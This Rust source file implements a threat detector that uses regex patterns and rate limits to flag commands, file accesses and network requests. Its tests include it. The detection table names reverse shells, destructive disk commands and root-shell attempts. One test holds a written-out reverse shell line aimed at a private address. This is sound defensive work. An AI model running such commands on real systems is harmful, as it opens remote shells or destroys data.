//! Threat detection for Overseer
//!
//! Pattern and rate based anomaly scanning over commands, file operations and network
//! requests, with a process-lifetime set of blocked sources and synchronous alert
//! callbacks.

use chrono::{DateTime, Duration, Utc};
use once_cell::sync::Lazy;
use parking_lot::{Mutex, RwLock};
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap, VecDeque};
use std::fmt;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};
use url::Url;

use super::config::SharedConfig;
use super::types::RiskLevel;
use crate::utils::SharedClock;

/// Threat Detection Engine configuration
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct ThreatDetectionConfig {
    /// Whether Threat Detection is enabled
    pub enabled: bool,
    /// Commands from one source within the window that count as rapid execution
    pub rapid_execution_threshold: usize,
    /// Length of the rate window in seconds
    pub rate_window_seconds: i64,
    /// Timestamps kept per source
    pub max_history_per_source: usize,
    /// Threat events kept for summaries
    pub recent_threat_capacity: usize,
    /// Monitor loop interval in seconds
    pub monitor_interval_seconds: u64,
}

impl Default for ThreatDetectionConfig {
    fn default() -> Self {
        Self {
            enabled: true,
            rapid_execution_threshold: 10,
            rate_window_seconds: 60,
            max_history_per_source: 100,
            recent_threat_capacity: 500,
            monitor_interval_seconds: 30,
        }
    }
}

impl ThreatDetectionConfig {
    /// Get service status description
    pub fn get_status_description(&self) -> String {
        if !self.enabled {
            "Disabled".to_string()
        } else {
            "Enabled".to_string()
        }
    }
}

/// Kind of threat a pattern or check detected
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatType {
    CommandInjection,
    PathTraversal,
    PrivilegeEscalation,
    DestructiveCommand,
    NetworkAttack,
    SqlInjection,
    SuspiciousPermissionChange,
    ServiceDisruption,
    RapidExecution,
    UnusualCommand,
    SourceBlocked,
    ProtectedFileAccess,
    BlockedDomain,
    InsecureConnection,
}

impl ThreatType {
    pub fn as_str(&self) -> &'static str {
        match self {
            ThreatType::CommandInjection => "command_injection",
            ThreatType::PathTraversal => "path_traversal",
            ThreatType::PrivilegeEscalation => "privilege_escalation",
            ThreatType::DestructiveCommand => "destructive_command",
            ThreatType::NetworkAttack => "network_attack",
            ThreatType::SqlInjection => "sql_injection",
            ThreatType::SuspiciousPermissionChange => "suspicious_permission_change",
            ThreatType::ServiceDisruption => "service_disruption",
            ThreatType::RapidExecution => "rapid_execution",
            ThreatType::UnusualCommand => "unusual_command",
            ThreatType::SourceBlocked => "source_blocked",
            ThreatType::ProtectedFileAccess => "protected_file_access",
            ThreatType::BlockedDomain => "blocked_domain",
            ThreatType::InsecureConnection => "insecure_connection",
        }
    }
}

impl fmt::Display for ThreatType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Threat action enumeration
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ThreatAction {
    /// Invoke registered alert callbacks
    Alert,
    /// Block the source for the rest of the process lifetime
    Block,
    /// Record through tracing only
    Log,
}

impl ThreatAction {
    pub fn as_str(&self) -> &'static str {
        match self {
            ThreatAction::Alert => "alert",
            ThreatAction::Block => "block",
            ThreatAction::Log => "log",
        }
    }
}

impl fmt::Display for ThreatAction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A detected threat
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ThreatEvent {
    pub timestamp: DateTime<Utc>,
    pub threat_type: ThreatType,
    pub description: String,
    pub risk_level: RiskLevel,
    /// Source identifier (session id, user id or address)
    pub source: String,
    pub details: BTreeMap<String, String>,
    pub action_taken: ThreatAction,
}

impl ThreatEvent {
    /// Whether this event must stop the operation that produced it
    pub fn is_blocking(&self) -> bool {
        self.risk_level == RiskLevel::Critical || self.action_taken == ThreatAction::Block
    }
}

/// A regex rule in the detection table
#[derive(Debug, Clone)]
pub struct ThreatPattern {
    pub threat_type: ThreatType,
    pub regex: Regex,
    pub risk_level: RiskLevel,
    pub description: String,
    pub action: ThreatAction,
}

impl ThreatPattern {
    fn new(
        threat_type: ThreatType,
        pattern: &str,
        risk_level: RiskLevel,
        description: &str,
        action: ThreatAction,
    ) -> Self {
        Self {
            threat_type,
            regex: Regex::new(pattern).expect("Invalid regex pattern"),
            risk_level,
            description: description.to_string(),
            action,
        }
    }
}

/// Built-in detection table, checked in order
fn default_patterns() -> Vec<ThreatPattern> {
    use RiskLevel::*;
    use ThreatAction::*;
    use ThreatType::*;

    vec![
        ThreatPattern::new(
            CommandInjection,
            r"(?i)[;&|]\s*(?:rm|wget|curl|nc|ncat|bash|sh|zsh|python\d?|perl|ruby)\b",
            High,
            "Command chained into a shell, downloader or interpreter",
            Alert,
        ),
        ThreatPattern::new(
            CommandInjection,
            r"\$\([^)]*\)|`[^`]*`",
            High,
            "Command substitution",
            Alert,
        ),
        ThreatPattern::new(
            PathTraversal,
            r"(?:\.\./){2,}|\.\.\\",
            High,
            "Directory traversal sequence",
            Alert,
        ),
        ThreatPattern::new(
            PrivilegeEscalation,
            r"(?i)\bsudo\s+(?:su\b|-i\b|-s\b|bash\b|sh\b)|(?:^|[;&|]\s*)su\s+(?:-|root\b)",
            Critical,
            "Attempt to obtain a root shell",
            Block,
        ),
        ThreatPattern::new(
            PrivilegeEscalation,
            r"(?i)\bchmod\s+(?:[ug]\+s|[2467][0-7]{3})\b",
            High,
            "Setting setuid or setgid bits",
            Alert,
        ),
        ThreatPattern::new(
            DestructiveCommand,
            r"(?i)\brm\s+(?:-[a-z]+\s+)*-[a-z]*r[a-z]*\s+(?:/|/\*|~|~/|\*)(?:\s|$)",
            Critical,
            "Recursive removal of a root, home or wildcard target",
            Block,
        ),
        ThreatPattern::new(
            DestructiveCommand,
            r"(?i)\bmkfs(?:\.[a-z0-9]+)?\b|\bdd\s+[^;&|]*\bof=/dev/|>\s*/dev/(?:sd|hd|nvme|disk)",
            Critical,
            "Overwriting a filesystem or block device",
            Block,
        ),
        ThreatPattern::new(
            NetworkAttack,
            r"(?i)\b(?:nmap|masscan|hydra|sqlmap|nikto)\b",
            High,
            "Network scanning or brute-force tool",
            Alert,
        ),
        ThreatPattern::new(
            NetworkAttack,
            r"(?i)\bnc(?:at)?\b[^;|]*\s-[a-z]*e\b|/dev/tcp/|\bbash\s+-i\s*>&",
            Critical,
            "Reverse shell",
            Block,
        ),
        ThreatPattern::new(
            SqlInjection,
            r"(?i)'\s*or\s+'?1'?\s*=\s*'?1|;\s*drop\s+table\b|\bunion\s+(?:all\s+)?select\b",
            High,
            "SQL injection idiom",
            Alert,
        ),
        ThreatPattern::new(
            SuspiciousPermissionChange,
            r"(?i)\bchmod\s+(?:-R\s+)?0?777\b|\bchown\s+(?:-R\s+)?root\b",
            Medium,
            "Broad permission or ownership change",
            Alert,
        ),
        ThreatPattern::new(
            ServiceDisruption,
            r"(?i)\b(?:systemctl|service)\s+(?:stop|disable|mask)\b|\bkillall\b",
            Medium,
            "Stopping services or processes",
            Alert,
        ),
    ]
}

/// Commands flagged as unusual for an assistant session
static UNUSUAL_COMMANDS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    [
        "mkfs",
        "fdisk",
        "dd",
        "kill -9",
        "systemctl stop",
        "service stop",
        "useradd",
        "userdel",
        "passwd",
    ]
    .iter()
    .map(|cmd| {
        let pattern = format!(r"(?i)\b{}\b", regex::escape(cmd).replace(' ', r"\s+"));
        (*cmd, Regex::new(&pattern).expect("Invalid regex pattern"))
    })
    .collect()
});

/// Callback invoked for every alert-level event
pub type AlertCallback = Arc<dyn Fn(&ThreatEvent) + Send + Sync>;

/// A blocked source and why
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BlockedSource {
    pub source: String,
    pub blocked_at: DateTime<Utc>,
    pub reason: String,
}

/// Threat Detection Service Statistics
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ThreatDetectionStatistics {
    /// Total threat analyses performed
    pub total_analyses: u64,
    /// Threats detected by severity
    pub threats_by_severity: HashMap<String, u64>,
    /// Threats detected by type
    pub threats_by_type: HashMap<String, u64>,
    /// Sources currently blocked
    pub blocked_sources: usize,
    /// Sources with a live rate window
    pub tracked_sources: usize,
    /// Active threat rules count
    pub active_rules_count: usize,
    /// Real-time monitoring status
    pub monitoring_active: bool,
    /// Service status
    pub service_status: String,
}

impl Default for ThreatDetectionStatistics {
    fn default() -> Self {
        let mut threats_by_severity = HashMap::new();
        threats_by_severity.insert("low".to_string(), 0);
        threats_by_severity.insert("medium".to_string(), 0);
        threats_by_severity.insert("high".to_string(), 0);
        threats_by_severity.insert("critical".to_string(), 0);

        Self {
            total_analyses: 0,
            threats_by_severity,
            threats_by_type: HashMap::new(),
            blocked_sources: 0,
            tracked_sources: 0,
            active_rules_count: 0,
            monitoring_active: false,
            service_status: "Not Initialized".to_string(),
        }
    }
}

#[derive(Debug, Default)]
struct DetectorState {
    windows: HashMap<String, VecDeque<DateTime<Utc>>>,
    blocked: HashMap<String, BlockedSource>,
    history: VecDeque<ThreatEvent>,
    total_analyses: u64,
    threats_by_severity: HashMap<String, u64>,
    threats_by_type: HashMap<String, u64>,
}

/// Pattern and rate based threat scanner
pub struct ThreatDetector {
    config: SharedConfig,
    settings: ThreatDetectionConfig,
    patterns: Vec<ThreatPattern>,
    state: Mutex<DetectorState>,
    callbacks: RwLock<Vec<AlertCallback>>,
    clock: SharedClock,
    monitoring: AtomicBool,
}

impl fmt::Debug for ThreatDetector {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ThreatDetector")
            .field("settings", &self.settings)
            .field("patterns", &self.patterns.len())
            .field("callbacks", &self.callbacks.read().len())
            .finish()
    }
}

impl ThreatDetector {
    /// Create a detector with the built-in pattern table
    pub fn new(config: SharedConfig, settings: ThreatDetectionConfig, clock: SharedClock) -> Self {
        let patterns = default_patterns();
        info!(
            "Threat detector initialized with {} patterns ({})",
            patterns.len(),
            settings.get_status_description()
        );
        Self {
            config,
            settings,
            patterns,
            state: Mutex::new(DetectorState::default()),
            callbacks: RwLock::new(Vec::new()),
            clock,
            monitoring: AtomicBool::new(false),
        }
    }

    pub fn settings(&self) -> &ThreatDetectionConfig {
        &self.settings
    }

    /// Register a callback invoked for every alert-level event
    pub fn register_alert_callback(&self, callback: AlertCallback) {
        self.callbacks.write().push(callback);
    }

    /// Scan a command issued by `source`
    pub fn check_command(&self, command: &str, source: &str) -> Vec<ThreatEvent> {
        if !self.settings.enabled {
            return Vec::new();
        }

        let now = self.clock.now();
        let mut events = Vec::new();

        for pattern in &self.patterns {
            if pattern.regex.is_match(command) {
                let mut details = BTreeMap::new();
                details.insert("command".to_string(), command.to_string());
                details.insert("pattern".to_string(), pattern.regex.as_str().to_string());
                events.push(ThreatEvent {
                    timestamp: now,
                    threat_type: pattern.threat_type,
                    description: pattern.description.clone(),
                    risk_level: pattern.risk_level,
                    source: source.to_string(),
                    details,
                    action_taken: pattern.action,
                });
            }
        }

        if let Some(count) = self.track_execution(source, now) {
            let mut details = BTreeMap::new();
            details.insert("count".to_string(), count.to_string());
            details.insert(
                "window_seconds".to_string(),
                self.settings.rate_window_seconds.to_string(),
            );
            events.push(ThreatEvent {
                timestamp: now,
                threat_type: ThreatType::RapidExecution,
                description: format!(
                    "{} commands within {} seconds",
                    count, self.settings.rate_window_seconds
                ),
                risk_level: RiskLevel::Medium,
                source: source.to_string(),
                details,
                action_taken: ThreatAction::Alert,
            });
        }

        for (name, regex) in UNUSUAL_COMMANDS.iter() {
            if regex.is_match(command) {
                let mut details = BTreeMap::new();
                details.insert("command".to_string(), command.to_string());
                details.insert("matched".to_string(), name.to_string());
                events.push(ThreatEvent {
                    timestamp: now,
                    threat_type: ThreatType::UnusualCommand,
                    description: format!("Unusual command: {}", name),
                    risk_level: RiskLevel::Medium,
                    source: source.to_string(),
                    details,
                    action_taken: ThreatAction::Alert,
                });
            }
        }

        self.dispatch(events)
    }

    /// Scan a file operation on `path`
    pub fn check_file_operation(&self, operation: &str, path: &str, source: &str) -> Vec<ThreatEvent> {
        if !self.settings.enabled {
            return Vec::new();
        }

        let now = self.clock.now();
        let mut details = BTreeMap::new();
        details.insert("operation".to_string(), operation.to_string());
        details.insert("path".to_string(), path.to_string());

        let mut events = Vec::new();
        if path.contains("..") {
            events.push(ThreatEvent {
                timestamp: now,
                threat_type: ThreatType::PathTraversal,
                description: format!("Path traversal in {} operation", operation),
                risk_level: RiskLevel::High,
                source: source.to_string(),
                details: details.clone(),
                action_taken: ThreatAction::Block,
            });
        }

        let protected = {
            let config = self.config.read();
            config.is_file_protected(path) || config.is_path_protected(path)
        };
        if protected {
            events.push(ThreatEvent {
                timestamp: now,
                threat_type: ThreatType::ProtectedFileAccess,
                description: format!("{} operation on protected location", operation),
                risk_level: RiskLevel::High,
                source: source.to_string(),
                details,
                action_taken: ThreatAction::Alert,
            });
        }

        self.dispatch(events)
    }

    /// Scan a network request to `url`
    pub fn check_network_operation(&self, url: &str, source: &str) -> Vec<ThreatEvent> {
        if !self.settings.enabled {
            return Vec::new();
        }

        let Ok(parsed) = Url::parse(url) else {
            debug!("Skipping threat scan of unparsable URL '{}'", url);
            return Vec::new();
        };
        let domain = parsed.host_str().unwrap_or_default().to_lowercase();

        let now = self.clock.now();
        let mut details = BTreeMap::new();
        details.insert("url".to_string(), url.to_string());
        details.insert("domain".to_string(), domain.clone());

        let (blocked, require_ssl) = {
            let config = self.config.read();
            (config.is_domain_blocked(&domain), config.network.require_ssl)
        };

        let mut events = Vec::new();
        if blocked {
            events.push(ThreatEvent {
                timestamp: now,
                threat_type: ThreatType::BlockedDomain,
                description: format!("Request to blocked domain {}", domain),
                risk_level: RiskLevel::High,
                source: source.to_string(),
                details: details.clone(),
                action_taken: ThreatAction::Block,
            });
        }
        if require_ssl && parsed.scheme() != "https" {
            events.push(ThreatEvent {
                timestamp: now,
                threat_type: ThreatType::InsecureConnection,
                description: format!("Unencrypted {} request", parsed.scheme()),
                risk_level: RiskLevel::Medium,
                source: source.to_string(),
                details,
                action_taken: ThreatAction::Alert,
            });
        }

        self.dispatch(events)
    }

    /// Block `source`, returning the resulting event
    pub fn block_source(&self, source: &str, reason: &str) -> ThreatEvent {
        let event = self.block_event(source, reason);
        self.dispatch(vec![event.clone()]);
        event
    }

    pub fn is_source_blocked(&self, source: &str) -> bool {
        self.state.lock().blocked.contains_key(source)
    }

    /// Remove `source` from the block set; returns whether it was blocked
    pub fn unblock_source(&self, source: &str) -> bool {
        let removed = self.state.lock().blocked.remove(source).is_some();
        if removed {
            info!("Unblocked source {}", source);
        }
        removed
    }

    /// Currently blocked sources, oldest first
    pub fn blocked_sources(&self) -> Vec<BlockedSource> {
        let mut blocked: Vec<BlockedSource> = self.state.lock().blocked.values().cloned().collect();
        blocked.sort_by_key(|b| b.blocked_at);
        blocked
    }

    /// Most recent threat events, newest first
    pub fn recent_threats(&self, limit: usize) -> Vec<ThreatEvent> {
        self.state.lock().history.iter().rev().take(limit).cloned().collect()
    }

    /// Drop rate windows with no activity inside the window; returns how many were removed
    pub fn prune_idle_windows(&self) -> usize {
        let cutoff = self.clock.now() - Duration::seconds(self.settings.rate_window_seconds);
        let mut state = self.state.lock();
        let before = state.windows.len();
        state
            .windows
            .retain(|_, window| window.back().map(|last| *last > cutoff).unwrap_or(false));
        before - state.windows.len()
    }

    pub fn get_statistics(&self) -> ThreatDetectionStatistics {
        let state = self.state.lock();
        let mut stats = ThreatDetectionStatistics::default();
        stats.total_analyses = state.total_analyses;
        for (severity, count) in &state.threats_by_severity {
            stats.threats_by_severity.insert(severity.clone(), *count);
        }
        stats.threats_by_type = state.threats_by_type.clone();
        stats.blocked_sources = state.blocked.len();
        stats.tracked_sources = state.windows.len();
        stats.active_rules_count = self.patterns.len() + UNUSUAL_COMMANDS.len();
        stats.monitoring_active = self.monitoring.load(Ordering::SeqCst);
        stats.service_status = self.settings.get_status_description();
        stats
    }

    /// Spawn the periodic monitor on the tokio runtime
    pub fn spawn_monitor(self: &Arc<Self>, mut shutdown: watch::Receiver<bool>) -> JoinHandle<()> {
        let detector = Arc::clone(self);
        let period = std::time::Duration::from_secs(self.settings.monitor_interval_seconds.max(1));

        tokio::spawn(async move {
            detector.monitoring.store(true, Ordering::SeqCst);
            info!("Threat monitor started (interval {:?})", period);

            let mut ticker = tokio::time::interval(period);
            loop {
                tokio::select! {
                    _ = ticker.tick() => {
                        let pruned = detector.prune_idle_windows();
                        if pruned > 0 {
                            debug!("Threat monitor pruned {} idle rate windows", pruned);
                        }
                    }
                    changed = shutdown.changed() => {
                        if changed.is_err() || *shutdown.borrow() {
                            break;
                        }
                    }
                }
            }

            detector.monitoring.store(false, Ordering::SeqCst);
            info!("Threat monitor stopped");
        })
    }

    /// Record the timestamp and return the in-window count when over threshold
    fn track_execution(&self, source: &str, now: DateTime<Utc>) -> Option<usize> {
        let cutoff = now - Duration::seconds(self.settings.rate_window_seconds);
        let mut state = self.state.lock();
        let window = state.windows.entry(source.to_string()).or_default();

        window.push_back(now);
        while window.len() > self.settings.max_history_per_source {
            window.pop_front();
        }

        let count = window.iter().filter(|t| **t > cutoff).count();
        (count >= self.settings.rapid_execution_threshold).then_some(count)
    }

    fn block_event(&self, source: &str, reason: &str) -> ThreatEvent {
        let now = self.clock.now();
        let mut details = BTreeMap::new();
        details.insert("reason".to_string(), reason.to_string());
        ThreatEvent {
            timestamp: now,
            threat_type: ThreatType::SourceBlocked,
            description: format!("Source blocked: {}", reason),
            risk_level: RiskLevel::High,
            source: source.to_string(),
            details,
            action_taken: ThreatAction::Block,
        }
    }

    /// Apply actions, update history and run callbacks outside the state lock
    fn dispatch(&self, mut events: Vec<ThreatEvent>) -> Vec<ThreatEvent> {
        let mut blocked_now = Vec::new();
        for event in &events {
            if event.action_taken == ThreatAction::Block
                && event.threat_type != ThreatType::SourceBlocked
                && !blocked_now.contains(&event.source)
            {
                blocked_now.push(event.source.clone());
            }
        }

        for source in blocked_now {
            if self.is_source_blocked(&source) {
                continue;
            }
            let reason = events
                .iter()
                .find(|e| e.source == source && e.action_taken == ThreatAction::Block)
                .map(|e| e.description.clone())
                .unwrap_or_default();
            warn!("Blocking source {}: {}", source, reason);
            events.push(self.block_event(&source, &reason));
        }

        {
            let mut state = self.state.lock();
            state.total_analyses += 1;
            for event in &events {
                if event.threat_type == ThreatType::SourceBlocked {
                    state.blocked.entry(event.source.clone()).or_insert_with(|| BlockedSource {
                        source: event.source.clone(),
                        blocked_at: event.timestamp,
                        reason: event.details.get("reason").cloned().unwrap_or_default(),
                    });
                }
                *state
                    .threats_by_severity
                    .entry(event.risk_level.to_string())
                    .or_insert(0) += 1;
                *state
                    .threats_by_type
                    .entry(event.threat_type.to_string())
                    .or_insert(0) += 1;
                state.history.push_back(event.clone());
            }
            while state.history.len() > self.settings.recent_threat_capacity {
                state.history.pop_front();
            }
        }

        let alerts: Vec<&ThreatEvent> = events
            .iter()
            .filter(|e| e.action_taken == ThreatAction::Alert)
            .collect();
        for event in &events {
            match event.action_taken {
                ThreatAction::Log => debug!("Threat logged: {} from {}", event.threat_type, event.source),
                _ => warn!(
                    "Threat detected: {} ({}) from {}: {}",
                    event.threat_type, event.risk_level, event.source, event.description
                ),
            }
        }
        if !alerts.is_empty() {
            let callbacks = self.callbacks.read().clone();
            for event in alerts {
                for callback in &callbacks {
                    callback(event);
                }
            }
        }

        events
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::config::SecurityConfig;
    use crate::utils::ManualClock;
    use std::sync::atomic::AtomicUsize;

    fn detector(clock: &ManualClock) -> ThreatDetector {
        ThreatDetector::new(
            SecurityConfig::default().into_shared(),
            ThreatDetectionConfig::default(),
            clock.shared(),
        )
    }

    #[test]
    fn test_rapid_execution_on_tenth_call() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        for _ in 0..9 {
            let events = detector.check_command("ls", "session-1");
            assert!(events.iter().all(|e| e.threat_type != ThreatType::RapidExecution));
            clock.advance_secs(1);
        }

        let events = detector.check_command("ls", "session-1");
        let rapid = events
            .iter()
            .find(|e| e.threat_type == ThreatType::RapidExecution)
            .expect("rapid execution event");
        assert_eq!(rapid.risk_level, RiskLevel::Medium);
        assert_eq!(rapid.action_taken, ThreatAction::Alert);
        assert!(!detector.is_source_blocked("session-1"));
    }

    #[test]
    fn test_no_rapid_execution_when_spread_out() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        for _ in 0..10 {
            let events = detector.check_command("ls", "session-1");
            assert!(events.iter().all(|e| e.threat_type != ThreatType::RapidExecution));
            clock.advance_secs(7);
        }
    }

    #[test]
    fn test_rate_windows_are_per_source() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        for i in 0..10 {
            let source = if i % 2 == 0 { "a" } else { "b" };
            let events = detector.check_command("pwd", source);
            assert!(events.is_empty());
        }
    }

    #[test]
    fn test_blocking_pattern_blocks_source() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        let events = detector.check_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "attacker");
        assert!(events.iter().any(|e| e.threat_type == ThreatType::NetworkAttack));
        assert!(events.iter().any(|e| e.threat_type == ThreatType::SourceBlocked));
        assert!(events.iter().any(|e| e.is_blocking()));
        assert!(detector.is_source_blocked("attacker"));

        assert_eq!(detector.blocked_sources().len(), 1);
        assert!(detector.unblock_source("attacker"));
        assert!(!detector.is_source_blocked("attacker"));
        assert!(!detector.unblock_source("attacker"));
    }

    #[test]
    fn test_unusual_commands_match_whole_words() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        let events = detector.check_command("kill -9 4242", "s");
        assert!(events.iter().any(|e| e.threat_type == ThreatType::UnusualCommand));

        let events = detector.check_command("echo add more ddos", "s");
        assert!(events.iter().all(|e| e.threat_type != ThreatType::UnusualCommand));
    }

    #[test]
    fn test_alert_callbacks_invoked() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);
        let seen = Arc::new(AtomicUsize::new(0));

        let counter = Arc::clone(&seen);
        detector.register_alert_callback(Arc::new(move |event: &ThreatEvent| {
            assert_eq!(event.action_taken, ThreatAction::Alert);
            counter.fetch_add(1, Ordering::SeqCst);
        }));

        detector.check_command("nmap -sV 192.168.1.0/24", "scanner");
        assert!(seen.load(Ordering::SeqCst) >= 1);
    }

    #[test]
    fn test_file_and_network_checks() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        let events = detector.check_file_operation("read", "/etc/shadow", "u1");
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].threat_type, ThreatType::ProtectedFileAccess);
        assert!(!detector.is_source_blocked("u1"));

        let events = detector.check_file_operation("read", "/tmp/a/../../etc/hosts", "u2");
        assert!(events.iter().any(|e| e.threat_type == ThreatType::PathTraversal));
        assert!(detector.is_source_blocked("u2"));

        let events = detector.check_network_operation("http://example.org", "u3");
        assert_eq!(events[0].threat_type, ThreatType::InsecureConnection);
        assert!(!detector.is_source_blocked("u3"));

        let events = detector.check_network_operation("https://files.pastebin.com/raw", "u4");
        assert!(events.iter().any(|e| e.threat_type == ThreatType::BlockedDomain));
        assert!(detector.is_source_blocked("u4"));
    }

    #[test]
    fn test_history_and_statistics() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        detector.check_command("systemctl stop sshd", "s1");
        let recent = detector.recent_threats(10);
        assert!(!recent.is_empty());

        let stats = detector.get_statistics();
        assert_eq!(stats.total_analyses, 1);
        assert!(stats.threats_by_type.contains_key("service_disruption"));
        assert_eq!(stats.service_status, "Enabled");
    }

    #[test]
    fn test_prune_idle_windows() {
        let clock = ManualClock::starting_now();
        let detector = detector(&clock);

        detector.check_command("ls", "idle");
        clock.advance_secs(30);
        detector.check_command("ls", "active");
        clock.advance_secs(40);

        assert_eq!(detector.prune_idle_windows(), 1);
        assert_eq!(detector.get_statistics().tracked_sources, 1);
    }

    #[tokio::test]
    async fn test_monitor_stops_on_shutdown() {
        let clock = ManualClock::starting_now();
        let detector = Arc::new(detector(&clock));
        let (tx, rx) = watch::channel(false);

        let handle = detector.spawn_monitor(rx);
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        assert!(detector.get_statistics().monitoring_active);

        tx.send(true).unwrap();
        handle.await.unwrap();
        assert!(!detector.get_statistics().monitoring_active);
    }
}
